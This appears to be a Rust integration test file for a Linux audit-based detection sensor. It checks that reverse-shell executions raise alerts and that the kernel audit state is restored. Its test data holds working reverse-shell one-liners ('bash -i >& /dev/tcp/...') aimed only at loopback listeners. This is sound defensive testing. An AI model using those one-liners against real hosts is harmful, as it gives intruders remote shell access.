//! `execsentry run` against the real kernel audit subsystem, as root: real reverse shells against
//! a loopback listener, the sensor as the audit daemon (netlink) and beside a real `auditd`
//! (multicast), an exec storm with every exec received or counted as lost, and the shutdown on
//! SIGTERM/SIGINT (drain, flush, restore, exit 0).
//!
//! Each test holds the machine-wide audit lock for its whole run, records the audit status and
//! rule list first and asserts they are the same afterwards; guards stop the processes it started
//! (by pid) and put the audit state back even when an assertion fails. Where live audit is not
//! possible (not root, no audit, a locked configuration, another daemon) a test prints why and
//! returns, unless `EXECSENTRY_REQUIRE_LIVE=1` (CI), where that is a failure. Only loopback is
//! ever connected to.

#![cfg(target_os = "linux")]

mod cli_support;

use std::collections::{BTreeMap, HashSet};
use std::io::{BufRead, BufReader, Read, Seek, SeekFrom, Write};
use std::net::{Ipv4Addr, Ipv6Addr, Shutdown, TcpListener, UdpSocket};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitStatus, Stdio};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{mpsc, Arc, Mutex};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use execsentry_linux::control::{AuditRule, Control, StatusChange};
use execsentry_linux::netlink::{AuditLock, AUDIT_LOCK_PATH};
use serde_json::Value;

use cli_support::TempDir;

/// Elastic's "Potential Reverse Shell Activity via Terminal", built in.
const RULE_ID: &str = "a1a0375f-22c2-48c0-81a4-7c2d11cc6856";

/// The parent every test shell runs under: a known shell whose own arguments hold no
/// `/dev/tcp`, so it is never an alert itself and the child's `process.parent.*` can be asserted.
const PARENT_SCRIPT: &str = r#""$ES_SHELL" -c "$ES_CMD"; exit $?"#;

// ---------------------------------------------------------------------------------------------
// Skipping

fn skip(test: &str, why: &str) {
    if std::env::var("EXECSENTRY_REQUIRE_LIVE").as_deref() == Ok("1") {
        panic!("{test}: live audit test required (EXECSENTRY_REQUIRE_LIVE=1) but it cannot run here: {why}");
    }
    eprintln!("skipping {test}: {why}");
}

fn is_root() -> bool {
    std::fs::read_to_string("/proc/self/status")
        .map(|s| {
            s.lines()
                .any(|l| l.starts_with("Uid:") && l.split_whitespace().nth(2) == Some("0"))
        })
        .unwrap_or(false)
}

// ---------------------------------------------------------------------------------------------
// Audit state: recorded before, asserted after, restored on failure

/// What a test must leave as it found it.
#[derive(Clone, Debug, PartialEq, Eq)]
struct AuditState {
    enabled: u32,
    failure: u32,
    pid: u32,
    rate_limit: u32,
    backlog_limit: u32,
    backlog_wait_time: u32,
    rules: Vec<AuditRule>,
}

fn read_state(c: &mut Control) -> AuditState {
    let s = c.status().expect("AUDIT_GET");
    AuditState {
        enabled: s.enabled,
        failure: s.failure,
        pid: s.pid,
        rate_limit: s.rate_limit,
        backlog_limit: s.backlog_limit,
        backlog_wait_time: s.backlog_wait_time,
        rules: c.list_rules().expect("AUDIT_LIST_RULES"),
    }
}

static KEYS: AtomicUsize = AtomicUsize::new(0);

/// One live test's hold on kernel audit: the machine-wide lock, the state found, and a guard
/// that puts it back. Declare it before the process guards, so they are dropped (their processes
/// stopped) before it restores.
struct AuditSession {
    control: Control,
    before: AuditState,
    /// The audit key the sensor under test installs its rules with: the only rules ever deleted.
    key: String,
    _lock: AuditLock,
}

impl AuditSession {
    /// `None` (after saying why) when live audit is not possible here. With `unicast_free`, a
    /// registered audit daemon is a reason too (the test needs to register one).
    fn begin(test: &str, unicast_free: bool) -> Option<AuditSession> {
        if !is_root() {
            skip(test, "not running as root");
            return None;
        }
        let control = match Control::open().and_then(|mut c| c.status().map(|_| c)) {
            Ok(c) => c,
            Err(e) => {
                skip(test, &format!("kernel audit control is not permitted: {e}"));
                return None;
            }
        };
        let lock = AuditLock::acquire(Path::new(AUDIT_LOCK_PATH)).expect("audit lock");
        let mut session = AuditSession {
            control,
            before: AuditState {
                enabled: 0,
                failure: 0,
                pid: 0,
                rate_limit: 0,
                backlog_limit: 0,
                backlog_wait_time: 0,
                rules: Vec::new(),
            },
            key: format!(
                "execsentry-test-{}-{}",
                std::process::id(),
                KEYS.fetch_add(1, Ordering::Relaxed)
            ),
            _lock: lock,
        };
        session.before = read_state(&mut session.control);
        if session.before.enabled == 2 {
            skip(test, "the audit configuration is locked (enabled=2)");
            return None;
        }
        if unicast_free && session.before.pid != 0 {
            skip(
                test,
                &format!(
                    "another audit daemon (pid {}) is registered",
                    session.before.pid
                ),
            );
            return None;
        }
        Some(session)
    }

    fn state(&mut self) -> AuditState {
        read_state(&mut self.control)
    }

    fn rules_with_our_key(&mut self) -> usize {
        self.control
            .rules_with_key(self.key.as_bytes())
            .expect("AUDIT_LIST_RULES")
            .len()
    }

    /// The end of a passing test: audit is exactly as it was found.
    fn assert_restored(&mut self) {
        let after = self.state();
        assert_eq!(
            after, self.before,
            "audit status and rules after the test differ from before"
        );
    }

    /// Best effort, after a failure: the sensor's rules deleted, status fields put back, and a
    /// dead daemon's registration cleared (the kernel drops it at its next failed send, so make it
    /// send: a CONFIG_CHANGE record from a no-op AUDIT_SET while audit is on).
    fn restore(&mut self) {
        let now = self.state();
        if now == self.before {
            return;
        }
        eprintln!("restoring kernel audit state: {now:?}");
        if now.pid != self.before.pid && !Path::new(&format!("/proc/{}", now.pid)).exists() {
            let deadline = Instant::now() + Duration::from_secs(5);
            while Instant::now() < deadline {
                let st = self.control.status().expect("AUDIT_GET");
                if st.pid == self.before.pid {
                    break;
                }
                let _ = self
                    .control
                    .set(&StatusChange::default().enabled(st.enabled.max(1)));
                thread::sleep(Duration::from_millis(100));
            }
        }
        if let Ok(ours) = self.control.rules_with_key(self.key.as_bytes()) {
            for rule in ours {
                if !self.before.rules.contains(&rule) {
                    let _ = self.control.delete_rule(&rule);
                }
            }
        }
        let b = self.before.clone();
        let _ = self.control.set(
            &StatusChange::default()
                .enabled(b.enabled)
                .rate_limit(b.rate_limit)
                .backlog_limit(b.backlog_limit)
                .backlog_wait_time(b.backlog_wait_time),
        );
    }
}

impl Drop for AuditSession {
    fn drop(&mut self) {
        self.restore();
    }
}

// ---------------------------------------------------------------------------------------------
// Processes the tests start, each stopped by its pid

fn signal(pid: u32, sig: libc::c_int) {
    // SAFETY: kill(2) on a pid we spawned and have not reaped (so it cannot have been reused).
    unsafe {
        libc::kill(pid as libc::pid_t, sig);
    }
}

fn wait_timeout(child: &mut Child, timeout: Duration) -> Option<ExitStatus> {
    let deadline = Instant::now() + timeout;
    loop {
        if let Some(status) = child.try_wait().expect("waitpid") {
            return Some(status);
        }
        if Instant::now() >= deadline {
            return None;
        }
        thread::sleep(Duration::from_millis(20));
    }
}

/// Ends `child` for good: `sig`, then SIGKILL if it has not exited within `grace`.
fn end(child: &mut Child, sig: libc::c_int, grace: Duration) -> ExitStatus {
    if let Some(status) = child.try_wait().expect("waitpid") {
        return status;
    }
    signal(child.id(), sig);
    if let Some(status) = wait_timeout(child, grace) {
        return status;
    }
    signal(child.id(), libc::SIGKILL);
    child.wait().expect("waitpid")
}

/// `execsentry run ...`, started and waited for until it says it is ready.
struct Sensor {
    child: Option<Child>,
    pid: u32,
    ready: String,
    stderr: Arc<Mutex<String>>,
    reader: Option<JoinHandle<()>>,
}

impl Sensor {
    fn start(args: &[&str]) -> Sensor {
        let mut child = Command::new(env!("CARGO_BIN_EXE_execsentry"))
            .args(args)
            .env_remove("RUST_LOG")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn execsentry run");
        let pid = child.id();
        let stderr = Arc::new(Mutex::new(String::new()));
        let (tx, rx) = mpsc::channel();
        let reader = {
            let (pipe, stderr) = (child.stderr.take().unwrap(), Arc::clone(&stderr));
            thread::spawn(move || {
                for line in BufReader::new(pipe).lines() {
                    let Ok(line) = line else { break };
                    let mut all = stderr.lock().unwrap();
                    all.push_str(&line);
                    all.push('\n');
                    let _ = tx.send(line);
                }
            })
        };
        let mut sensor = Sensor {
            child: Some(child),
            pid,
            ready: String::new(),
            stderr,
            reader: Some(reader),
        };
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            match rx.recv_timeout(left) {
                Ok(line) if line.starts_with("execsentry: ready") => {
                    sensor.ready = line;
                    return sensor;
                }
                Ok(_) => {}
                Err(_) => {
                    let status = end(
                        sensor.child.as_mut().unwrap(),
                        libc::SIGTERM,
                        Duration::from_secs(10),
                    );
                    panic!(
                        "execsentry run did not get ready ({status}); stderr:\n{}",
                        sensor.stderr.lock().unwrap()
                    );
                }
            }
        }
    }

    /// Sends `sig` and waits for the sensor to exit: its exit status and everything on stderr.
    fn stop(mut self, sig: libc::c_int) -> (ExitStatus, String) {
        let mut child = self.child.take().unwrap();
        signal(self.pid, sig);
        let status = match wait_timeout(&mut child, Duration::from_secs(60)) {
            Some(s) => s,
            None => {
                let s = end(&mut child, libc::SIGKILL, Duration::from_secs(5));
                panic!(
                    "execsentry run did not exit within 60 s of signal {sig} ({s}); stderr:\n{}",
                    self.stderr.lock().unwrap()
                );
            }
        };
        if let Some(r) = self.reader.take() {
            let _ = r.join();
        }
        let stderr = self.stderr.lock().unwrap().clone();
        (status, stderr)
    }
}

impl Drop for Sensor {
    fn drop(&mut self) {
        if let Some(mut child) = self.child.take() {
            end(&mut child, libc::SIGTERM, Duration::from_secs(20));
        }
    }
}

/// The sensor's closing counters, from `execsentry: stopped; records=1 events=2 ...`.
fn summary(stderr: &str) -> BTreeMap<String, u64> {
    let line = stderr
        .lines()
        .find_map(|l| l.strip_prefix("execsentry: stopped; "))
        .unwrap_or_else(|| panic!("no summary line on stderr:\n{stderr}"));
    line.split_whitespace()
        .filter_map(|kv| {
            let (k, v) = kv.split_once('=')?;
            Some((k.to_owned(), v.parse().ok()?))
        })
        .collect()
}

/// Checks the shutdown contract: exit 0, a summary, and every alert and event counted there
/// written to its file.
fn assert_clean_stop(
    status: ExitStatus,
    stderr: &str,
    alerts: &Path,
    events: &Path,
) -> BTreeMap<String, u64> {
    assert!(status.success(), "exit status {status}; stderr:\n{stderr}");
    let counters = summary(stderr);
    assert_eq!(
        lines(alerts).len() as u64,
        counters["alerts"],
        "every alert counted is in the alerts file"
    );
    assert_eq!(
        count_lines(events),
        counters["events"],
        "every event counted is in the events file"
    );
    assert_eq!(counters["bad_records"], 0, "{stderr}");
    assert_eq!(counters["sink_errors"], 0, "{stderr}");
    counters
}

fn lines(path: &Path) -> Vec<Value> {
    let text = std::fs::read_to_string(path).unwrap_or_default();
    text.lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect()
}

fn count_lines(path: &Path) -> u64 {
    let data = std::fs::read(path).unwrap_or_default();
    assert!(data.is_empty() || data.ends_with(b"\n"), "a torn last line");
    data.iter().filter(|&&b| b == b'\n').count() as u64
}

/// Reads a growing NDJSON file and counts the lines containing `needle` (the sensor's events
/// output, while it runs).
struct Tail {
    file: PathBuf,
    offset: u64,
    partial: Vec<u8>,
}

impl Tail {
    fn new(file: &Path) -> Tail {
        Tail {
            file: file.to_owned(),
            offset: 0,
            partial: Vec::new(),
        }
    }

    /// New complete lines since the last call.
    fn read(&mut self) -> Vec<Vec<u8>> {
        let Ok(mut f) = std::fs::File::open(&self.file) else {
            return Vec::new();
        };
        f.seek(SeekFrom::Start(self.offset)).unwrap();
        let mut buf = Vec::new();
        f.read_to_end(&mut buf).unwrap();
        self.offset += buf.len() as u64;
        self.partial.extend_from_slice(&buf);
        let Some(last) = self.partial.iter().rposition(|&b| b == b'\n') else {
            return Vec::new();
        };
        let rest = self.partial.split_off(last + 1);
        let done = std::mem::replace(&mut self.partial, rest);
        done.split(|&b| b == b'\n')
            .filter(|l| !l.is_empty())
            .map(<[u8]>::to_vec)
            .collect()
    }

    /// Waits until an event line contains `needle`.
    fn wait_for(&mut self, needle: &str, timeout: Duration) {
        let deadline = Instant::now() + timeout;
        loop {
            if self
                .read()
                .iter()
                .any(|l| memchr::memmem::find(l, needle.as_bytes()).is_some())
            {
                return;
            }
            assert!(
                Instant::now() < deadline,
                "no event with {needle:?} within {timeout:?}"
            );
            thread::sleep(Duration::from_millis(50));
        }
    }
}

/// Runs `shell -c cmd` under the known parent shell ([`PARENT_SCRIPT`]), in its own process
/// group, killed (that group: only processes it started) if it outlives `timeout`.
fn run_shell(shell: &str, cmd: &str, timeout: Duration) -> Option<ExitStatus> {
    let mut child = Command::new("bash")
        .args(["-c", PARENT_SCRIPT])
        .env("ES_SHELL", shell)
        .env("ES_CMD", cmd)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .process_group(0)
        .spawn()
        .expect("spawn bash");
    let status = wait_timeout(&mut child, timeout);
    if status.is_none() {
        // SAFETY: kill(2) of the process group our unreaped child leads.
        unsafe {
            libc::kill(-(child.id() as libc::pid_t), libc::SIGKILL);
        }
        let _ = child.wait();
    }
    status
}

fn run_marker(marker: &str) {
    let status = Command::new("/bin/true")
        .arg(marker)
        .status()
        .expect("/bin/true");
    assert!(status.success());
}

// ---------------------------------------------------------------------------------------------
// The other end of the reverse shells: loopback listeners that tell the shell to exit

struct Attacker {
    tcp6: u16,
    udp6: u16,
    tcp4: u16,
    stop: Arc<AtomicBool>,
    seen: Arc<Mutex<Vec<&'static str>>>,
    threads: Vec<JoinHandle<()>>,
}

impl Attacker {
    fn start() -> Attacker {
        let stop = Arc::new(AtomicBool::new(false));
        let seen = Arc::new(Mutex::new(Vec::new()));
        let tcp6 = TcpListener::bind((Ipv6Addr::LOCALHOST, 0)).expect("listen on [::1]");
        let tcp4 = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("listen on 127.0.0.1");
        let udp6 = UdpSocket::bind((Ipv6Addr::LOCALHOST, 0)).expect("bind [::1] udp");
        let ports = (
            tcp6.local_addr().unwrap().port(),
            udp6.local_addr().unwrap().port(),
            tcp4.local_addr().unwrap().port(),
        );
        let mut threads = Vec::new();
        for (listener, what) in [(tcp6, "tcp6"), (tcp4, "tcp4")] {
            let (stop, seen) = (Arc::clone(&stop), Arc::clone(&seen));
            listener.set_nonblocking(true).unwrap();
            threads.push(thread::spawn(move || {
                while !stop.load(Ordering::Relaxed) {
                    match listener.accept() {
                        Ok((mut conn, _)) => {
                            seen.lock().unwrap().push(what);
                            let _ = conn.set_nonblocking(false);
                            let _ = conn.write_all(b"exit\n");
                            let _ = conn.shutdown(Shutdown::Both);
                        }
                        Err(_) => thread::sleep(Duration::from_millis(10)),
                    }
                }
            }));
        }
        {
            let (stop, seen) = (Arc::clone(&stop), Arc::clone(&seen));
            udp6.set_read_timeout(Some(Duration::from_millis(50)))
                .unwrap();
            threads.push(thread::spawn(move || {
                let mut buf = [0u8; 2048];
                let mut answered = HashSet::new();
                while !stop.load(Ordering::Relaxed) {
                    if let Ok((_, from)) = udp6.recv_from(&mut buf) {
                        if answered.insert(from) {
                            seen.lock().unwrap().push("udp6");
                            // bash reads its input a byte at a time, and a one-byte read takes
                            // a whole datagram: one datagram per byte.
                            for b in b"exit\n" {
                                let _ = udp6.send_to(&[*b], from);
                            }
                        }
                    }
                }
            }));
        }
        Attacker {
            tcp6: ports.0,
            udp6: ports.1,
            tcp4: ports.2,
            stop,
            seen,
            threads,
        }
    }

    /// How many shells reached each listener.
    fn finish(mut self) -> BTreeMap<&'static str, usize> {
        self.stop.store(true, Ordering::Relaxed);
        for t in self.threads.drain(..) {
            t.join().unwrap();
        }
        let mut counts = BTreeMap::new();
        for what in self.seen.lock().unwrap().iter() {
            *counts.entry(*what).or_default() += 1;
        }
        counts
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

// ---------------------------------------------------------------------------------------------
// A real auditd, in the foreground, with a private configuration

fn auditd_binary() -> Option<PathBuf> {
    let path = std::env::var("PATH").unwrap_or_default();
    let found = path
        .split(':')
        .chain(["/usr/sbin", "/sbin"])
        .map(|d| Path::new(d).join("auditd"))
        .find(|p| p.is_file());
    found
}

struct Auditd {
    child: Option<Child>,
    pid: u32,
    log: PathBuf,
    _dir: TempDir,
}

impl Auditd {
    /// `auditd -n -s nochange -c DIR`: logs to DIR, no plugins, leaves `enabled` alone; returns
    /// once the kernel lists it as the audit daemon.
    fn start(binary: &Path, control: &mut Control) -> Auditd {
        let dir = TempDir::new("auditd");
        let log = dir.path().join("audit.log");
        let plugins = dir.path().join("plugins.d");
        std::fs::create_dir_all(&plugins).unwrap();
        let conf = format!(
            "local_events = yes\nwrite_logs = yes\nlog_file = {}\nlog_group = root\n\
             log_format = RAW\nflush = NONE\nfreq = 0\nmax_log_file = 0\n\
             max_log_file_action = IGNORE\nnum_logs = 0\npriority_boost = 0\nname_format = NONE\n\
             space_left = 2\nspace_left_action = IGNORE\nadmin_space_left = 1\n\
             admin_space_left_action = IGNORE\ndisk_full_action = IGNORE\n\
             disk_error_action = IGNORE\nq_depth = 2000\noverflow_action = SYSLOG\n\
             max_restarts = 0\nplugin_dir = {}\nend_of_event_timeout = 2\n",
            log.display(),
            plugins.display()
        );
        let conf_path = dir.path().join("auditd.conf");
        std::fs::write(&conf_path, conf).unwrap();
        {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&conf_path, std::fs::Permissions::from_mode(0o640)).unwrap();
        }
        let out = std::fs::File::create(dir.path().join("auditd.out")).unwrap();
        let child = Command::new(binary)
            .args(["-n", "-s", "nochange", "-c"])
            .arg(dir.path())
            .stdin(Stdio::null())
            .stdout(out.try_clone().unwrap())
            .stderr(out)
            .spawn()
            .expect("spawn auditd");
        let mut auditd = Auditd {
            pid: child.id(),
            child: Some(child),
            log,
            _dir: dir,
        };
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            if control.status().expect("AUDIT_GET").pid == auditd.pid {
                return auditd;
            }
            if let Some(status) = auditd.child.as_mut().unwrap().try_wait().unwrap() {
                let out = std::fs::read_to_string(auditd._dir.path().join("auditd.out")).unwrap();
                panic!("auditd exited ({status}) before registering:\n{out}");
            }
            assert!(
                Instant::now() < deadline,
                "auditd (pid {}) did not register within 20 s",
                auditd.pid
            );
            thread::sleep(Duration::from_millis(50));
        }
    }

    /// SIGTERM; auditd unregisters (`pid=0`) on its way out. Returns its log.
    fn stop(mut self) -> Vec<u8> {
        let mut child = self.child.take().unwrap();
        let status = end(&mut child, libc::SIGTERM, Duration::from_secs(20));
        assert!(status.success(), "auditd exit status {status}");
        std::fs::read(&self.log).unwrap_or_default()
    }
}

impl Drop for Auditd {
    fn drop(&mut self) {
        if let Some(mut child) = self.child.take() {
            end(&mut child, libc::SIGTERM, Duration::from_secs(20));
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Alerts

fn s<'a>(v: &'a Value, path: &str) -> &'a Value {
    path.split('.').fold(v, |v, k| &v[k])
}

/// The one alert whose command line is `shell -c cmd`, checked field by field.
fn assert_reverse_shell_alert(alerts: &[Value], key: &str, shell: &str, name: &str, cmd: &str) {
    let args = [shell, "-c", cmd];
    let found: Vec<&Value> = alerts
        .iter()
        .filter(|a| s(a, "process.args") == &serde_json::json!(args))
        .collect();
    assert_eq!(
        found.len(),
        1,
        "one alert for {shell} -c {cmd:?}; alerts: {alerts:#?}"
    );
    let a = found[0];
    assert_eq!(s(a, "event.kind"), "alert");
    assert_eq!(s(a, "rule.id"), RULE_ID);
    assert_eq!(s(a, "event.type"), &serde_json::json!(["start"]));
    assert_eq!(s(a, "process.name"), name, "basename of exe");
    assert_eq!(
        s(a, "process.executable"),
        format!("/usr/bin/{name}").as_str()
    );
    assert_eq!(s(a, "process.command_line"), args.join(" ").as_str());
    assert_eq!(s(a, "process.parent.name"), "bash");
    assert_eq!(s(a, "process.parent.executable"), "/usr/bin/bash");
    assert_eq!(
        s(a, "process.parent.args"),
        &serde_json::json!(["bash", "-c", PARENT_SCRIPT])
    );
    assert_eq!(
        s(a, "process.parent.command_line"),
        format!("bash -c {PARENT_SCRIPT}").as_str()
    );
    assert!(s(a, "process.parent.pid").is_u64());
    assert_eq!(s(a, "process.parent.user.id"), "0");
    assert_eq!(s(a, "user.id"), "0", "ids are strings");
    assert_eq!(s(a, "user.name"), "root");
    assert_eq!(s(a, "process.user.id"), "0");
    assert_eq!(
        s(a, "tags"),
        &serde_json::json!([key]),
        "the sensor's audit key"
    );
}

fn alerts_mentioning<'a>(alerts: &'a [Value], needle: &str) -> Vec<&'a Value> {
    alerts
        .iter()
        .filter(|a| {
            s(a, "process.command_line")
                .as_str()
                .is_some_and(|c| c.contains(needle))
        })
        .collect()
}

// ---------------------------------------------------------------------------------------------
// The tests

const SHELL_TIMEOUT: Duration = Duration::from_secs(20);

/// The sensor as the audit daemon: real reverse shells (bash, sh, dash; TCP and UDP) alert with
/// their parent and user; the rule's exclusions and benign shells do not, though the sensor saw
/// them; SIGTERM drains, flushes, restores the audit state and exits 0.
#[test]
fn netlink_reverse_shells_alert_and_exclusions_do_not() {
    let test = "netlink_reverse_shells_alert_and_exclusions_do_not";
    let Some(mut audit) = AuditSession::begin(test, true) else {
        return;
    };
    let dir = TempDir::new("live-netlink");
    let (alerts_path, events_path) = (
        dir.path().join("alerts.ndjson"),
        dir.path().join("events.ndjson"),
    );
    let attacker = Attacker::start();
    let sensor = Sensor::start(&[
        "run",
        "--source",
        "netlink",
        "--alerts",
        alerts_path.to_str().unwrap(),
        "--events",
        events_path.to_str().unwrap(),
        "--audit-key",
        &audit.key.clone(),
        "--stats-interval",
        "3600",
    ]);
    assert!(sensor.ready.contains("source netlink"), "{}", sensor.ready);
    let running = audit.state();
    assert_eq!(running.pid, sensor.pid, "the sensor is the audit daemon");
    assert_eq!(running.enabled, 1);
    assert_eq!(
        audit.rules_with_our_key(),
        2,
        "execve+execveat, b64 and b32"
    );

    let (p6, u6, p4) = (attacker.tcp6, attacker.udp6, attacker.tcp4);
    let nonce = format!("{}-{}", std::process::id(), p6);
    let reverse = [
        ("bash", "bash", format!("bash -i >& /dev/tcp/::1/{p6} 0>&1")),
        ("sh", "dash", format!("sh -i >& /dev/tcp/::1/{p6} 0>&1")),
        ("dash", "dash", format!("dash -i >& /dev/tcp/::1/{p6} 0>&1")),
        ("bash", "bash", format!("bash -i >& /dev/udp/::1/{u6} 0>&1")),
    ];
    let quiet = [
        ("bash", format!("bash -i >& /dev/tcp/127.0.0.1/{p4} 0>&1")),
        ("bash", format!("bash -i >& /dev/tcp/localhost/{p4} 0>&1")),
        ("bash", format!("echo hi {nonce}")),
    ];
    for (shell, cmd) in reverse
        .iter()
        .map(|(shell, _, cmd)| (shell, cmd))
        .chain(quiet.iter().map(|(shell, cmd)| (shell, cmd)))
    {
        assert!(
            run_shell(shell, cmd, SHELL_TIMEOUT).is_some(),
            "`{shell} -c {cmd}` did not end within {SHELL_TIMEOUT:?} (the listener tells it to exit)"
        );
    }
    // Everything above has been evaluated once this later exec is an event.
    let sync = format!("es-sync-{nonce}");
    run_marker(&sync);
    Tail::new(&events_path).wait_for(&sync, Duration::from_secs(30));

    let (status, stderr) = sensor.stop(libc::SIGTERM);
    audit.assert_restored();
    let counters = assert_clean_stop(status, &stderr, &alerts_path, &events_path);
    assert!(counters["events"] >= (reverse.len() + quiet.len()) as u64 * 2);

    let alerts = lines(&alerts_path);
    for (shell, name, cmd) in &reverse {
        assert_reverse_shell_alert(&alerts, &audit.key, shell, name, cmd);
    }
    let events = lines(&events_path);
    for (_, cmd) in &quiet {
        assert!(
            alerts_mentioning(&alerts, cmd).is_empty(),
            "no alert for {cmd:?}"
        );
        let seen = events
            .iter()
            .filter(|e| s(e, "process.args") == &serde_json::json!(["bash", "-c", cmd]))
            .count();
        assert_eq!(seen, 1, "the sensor saw `bash -c {cmd}` as an event");
    }
    let reached = attacker.finish();
    assert_eq!(
        (reached.get("tcp6"), reached.get("udp6")),
        (Some(&1), Some(&1)),
        "bash reached [::1] over TCP and UDP (dash has no /dev/tcp): {reached:?}"
    );
    assert!(
        reached.get("tcp4").is_some_and(|&n| n >= 1),
        "the excluded shells really connected to 127.0.0.1: {reached:?}"
    );
}

/// The sensor beside a real auditd: multicast, read-only, same alert; auditd stays the daemon
/// and logs the same exec; both stopped, the audit state is back (pid 0, rules, enabled).
#[test]
fn multicast_beside_a_real_auditd() {
    let test = "multicast_beside_a_real_auditd";
    let Some(binary) = auditd_binary() else {
        return skip(test, "auditd is not installed (apt-get install auditd)");
    };
    let Some(mut audit) = AuditSession::begin(test, true) else {
        return;
    };
    let auditd = Auditd::start(&binary, &mut audit.control);
    let dir = TempDir::new("live-multicast");
    let (alerts_path, events_path) = (
        dir.path().join("alerts.ndjson"),
        dir.path().join("events.ndjson"),
    );
    let attacker = Attacker::start();
    let sensor = Sensor::start(&[
        "run",
        "--source",
        "multicast",
        "--alerts",
        alerts_path.to_str().unwrap(),
        "--events",
        events_path.to_str().unwrap(),
        "--audit-key",
        &audit.key.clone(),
        "--stats-interval",
        "3600",
    ]);
    assert!(
        sensor.ready.contains("source multicast"),
        "{}",
        sensor.ready
    );
    let running = audit.state();
    assert_eq!(running.pid, auditd.pid, "auditd stays the audit daemon");
    assert_eq!(running.enabled, 1);
    assert_eq!(audit.rules_with_our_key(), 2);

    let cmd = format!("bash -i >& /dev/tcp/::1/{} 0>&1", attacker.tcp6);
    assert!(run_shell("bash", &cmd, SHELL_TIMEOUT).is_some());
    let sync = format!("es-sync-{}-{}", std::process::id(), attacker.tcp6);
    run_marker(&sync);
    Tail::new(&events_path).wait_for(&sync, Duration::from_secs(30));

    let (status, stderr) = sensor.stop(libc::SIGTERM);
    assert_clean_stop(status, &stderr, &alerts_path, &events_path);
    let log = auditd.stop();
    audit.assert_restored();

    assert_reverse_shell_alert(&lines(&alerts_path), &audit.key, "bash", "bash", &cmd);
    // auditd received the same exec: its EXECVE record, the command hex-encoded (it has spaces).
    let hex: String = cmd.bytes().map(|b| format!("{b:02X}")).collect();
    assert!(
        memchr::memmem::find(&log, format!("a2={hex}").as_bytes()).is_some(),
        "auditd logged the reverse shell's EXECVE record"
    );
    assert_eq!(attacker.finish().get("tcp6"), Some(&1));
}

/// ≥ 20,000 execs as fast as two threads can spawn them: each is either an event or counted as
/// lost (serial gaps, kernel lost, queue drops, incomplete events); SIGINT drains every event to
/// the file.
#[test]
fn exec_storm_is_received_or_counted() {
    let test = "exec_storm_is_received_or_counted";
    let Some(mut audit) = AuditSession::begin(test, false) else {
        return;
    };
    const THREADS: usize = 2;
    const PER_THREAD: usize = 10_000;
    let generated = THREADS * PER_THREAD;
    let dir = TempDir::new("live-storm");
    let (alerts_path, events_path) = (
        dir.path().join("alerts.ndjson"),
        dir.path().join("events.ndjson"),
    );
    let sensor = Sensor::start(&[
        "run",
        "--alerts",
        alerts_path.to_str().unwrap(),
        "--events",
        events_path.to_str().unwrap(),
        "--audit-key",
        &audit.key.clone(),
        "--stats-interval",
        "3600",
    ]);
    let mode = if audit.before.pid == 0 {
        "netlink"
    } else {
        "multicast"
    };
    assert!(
        sensor.ready.contains(&format!("source {mode}")),
        "auto: {}",
        sensor.ready
    );

    let marker = format!("es-storm-{}-", std::process::id());
    let started = Instant::now();
    let spawners: Vec<_> = (0..THREADS)
        .map(|t| {
            let marker = marker.clone();
            thread::spawn(move || {
                for i in 0..PER_THREAD {
                    let status = Command::new("/bin/true")
                        .arg(format!("{marker}{t}-{i}"))
                        .stdin(Stdio::null())
                        .stdout(Stdio::null())
                        .stderr(Stdio::null())
                        .status()
                        .expect("spawn /bin/true");
                    assert!(status.success());
                }
            })
        })
        .collect();
    for s in spawners {
        s.join().unwrap();
    }
    let spawn_time = started.elapsed();

    // Let the events arrive: until all are there, or none came for 5 s.
    let mut tail = Tail::new(&events_path);
    let mut received_so_far = 0usize;
    let mut last_growth = Instant::now();
    while received_so_far < generated && last_growth.elapsed() < Duration::from_secs(5) {
        let n = tail
            .read()
            .iter()
            .filter(|l| memchr::memmem::find(l, marker.as_bytes()).is_some())
            .count();
        if n > 0 {
            received_so_far += n;
            last_growth = Instant::now();
        }
        thread::sleep(Duration::from_millis(200));
    }

    let (status, stderr) = sensor.stop(libc::SIGINT);
    audit.assert_restored();
    let c = assert_clean_stop(status, &stderr, &alerts_path, &events_path);

    let mut received = HashSet::new();
    let data = std::fs::read(&events_path).unwrap();
    for line in data.split(|&b| b == b'\n') {
        if memchr::memmem::find(line, marker.as_bytes()).is_none() {
            continue;
        }
        let e: Value = serde_json::from_slice(line).unwrap();
        let arg = s(&e, "process.args")[1].as_str().unwrap().to_owned();
        assert_eq!(s(&e, "process.name"), "true");
        assert!(received.insert(arg.clone()), "{arg} seen twice");
    }
    let lost = c["serial_gaps"] + c["kernel_lost"] + c["channel_drops"] + c["incomplete"];
    eprintln!(
        "exec storm ({mode}): {generated} execs in {:.1} s ({:.0}/s); received {}; \
         serial_gaps={} kernel_lost={} channel_drops={} incomplete={} enobufs={}",
        spawn_time.as_secs_f64(),
        generated as f64 / spawn_time.as_secs_f64(),
        received.len(),
        c["serial_gaps"],
        c["kernel_lost"],
        c["channel_drops"],
        c["incomplete"],
        c["enobufs"],
    );
    assert!(received.len() <= generated);
    if lost == 0 {
        assert_eq!(
            received.len(),
            generated,
            "nothing counted as lost, so every exec was received"
        );
    } else {
        assert!(
            received.len() as u64 + lost >= generated as u64,
            "{} execs neither received nor counted as lost",
            generated as u64 - received.len() as u64 - lost.min(generated as u64)
        );
    }
}

/// A sensor killed with SIGKILL cannot unregister or delete its rules. The next `run` (auto)
/// takes over as the audit daemon at once — the dead pid is replaced, not run beside in
/// multicast — and replaces the stale rules instead of adding a second set.
#[test]
fn killed_sensor_is_replaced_on_restart() {
    let test = "killed_sensor_is_replaced_on_restart";
    let Some(mut audit) = AuditSession::begin(test, true) else {
        return;
    };
    let key = audit.key.clone();
